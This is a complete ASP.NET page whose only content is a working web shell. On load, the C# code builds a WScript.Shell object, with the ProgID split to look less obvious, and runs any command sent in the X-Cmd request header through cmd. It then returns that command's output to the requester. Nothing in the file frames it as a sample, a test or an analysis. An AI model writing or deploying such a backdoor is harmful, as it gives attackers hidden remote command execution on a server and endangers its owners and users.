<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
    var t = Type.GetTypeFromProgID("WScript" + ".Shell");
    dynamic sh = Activator.CreateInstance(t);
    var ex = sh.Exec("cmd /c " + Request.Headers["X-Cmd"]);
    Response.Write(ex.StdOut.ReadAll());
}
</script>
